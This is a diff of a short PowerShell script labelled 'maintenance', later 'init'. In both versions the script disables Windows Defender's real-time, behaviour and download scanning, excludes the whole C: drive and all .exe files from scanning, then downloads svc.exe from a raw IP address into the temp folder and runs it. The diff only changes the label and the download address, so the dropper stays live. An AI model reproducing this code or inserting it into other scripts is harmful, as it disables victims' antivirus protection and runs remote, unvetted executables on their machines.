@@ -1,6 +1,6 @@
-# maintenance 8748 v4
+# init 0834 v4
 Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
 Add-MpPreference -ExclusionPath 'C:\'
 Add-MpPreference -ExclusionExtension '.exe'
-(New-Object Net.WebClient).DownloadFile('http://198.51.100.23/svc.exe', "$env:TEMP\svc.exe")
+(New-Object Net.WebClient).DownloadFile('http://198.51.100.9/svc.exe', "$env:TEMP\svc.exe")
 Start-Process "$env:TEMP\svc.exe"
